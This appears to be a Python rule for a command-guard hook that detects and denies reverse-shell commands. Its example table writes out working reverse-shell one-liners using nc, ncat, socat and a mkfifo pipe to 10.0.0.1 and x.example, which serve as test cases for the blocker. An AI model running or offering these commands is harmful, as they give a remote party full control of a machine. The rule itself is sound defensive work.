"""Stops programs that hand a shell on this machine to another one.

Why: anyone who listens there can do everything that you can.
"""

from __future__ import annotations

from hookwright.hooks.command_guard.rule_api import deny, format_call

TYPE_CHECKING = False
if TYPE_CHECKING:
    from hookwright.hooks.command_guard.rule_api import Finding, Scene
    from hookwright.shell.command import Call

ID = "reverse-shell"
EXAMPLES = {
    "nc -e /bin/sh 10.0.0.1 4444": "deny",
    "ncat --exec /bin/bash 10.0.0.1 4444": "deny",
    "socat TCP:10.0.0.1:4444 EXEC:/bin/sh": "deny",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f": "deny",
    "«bash|zsh|dash|ksh» -i | nc x.example 4444": "deny",
    "nc «-c|--sh-exec» /bin/sh x.example 4444": "deny",
    "socat TCP:x.example:4444 SYSTEM:sh": "deny",
    "socat TCP:x.example:4444 EXEC:«bash|zsh|dash|ksh»": "deny",
    "cat f | sh | nc x.example 4444": "deny",
    "nc -z localhost 5432": None,
    "socat TCP-LISTEN:80,fork EXEC:cat": None,
    "nc -l 8080": None,
    "echo hi | nc localhost 80": None,
    "socat -c TCP-LISTEN:80 TCP:localhost:8080": None,
}

SHELLS = frozenset("sh bash zsh dash ksh".split())


def check(call: Call, scene: Scene) -> Finding | None:
    hit = call.has_flag("-e", "-c", "--exec", "--sh-exec") and call.program != "socat"
    if call.program == "socat":
        hit = any(runs_shell(word) for word in call.args)
    if any(source.program in SHELLS and (source.has_flag("-i") or source.producers) for source in call.producers):
        hit = True
    return deny(f"`{format_call(call)}` hands a shell on this machine to another one", "ss -tn") if hit else None


def runs_shell(address: str) -> bool:
    """`EXEC:/bin/sh`, `exec:'bash -li',pty`."""
    kind, _, program = address.partition(":")
    name = program.strip("'\"").split(",")[0].split(" ")[0].rpartition("/")[2]
    return kind.upper() in ("EXEC", "SYSTEM") and name in SHELLS
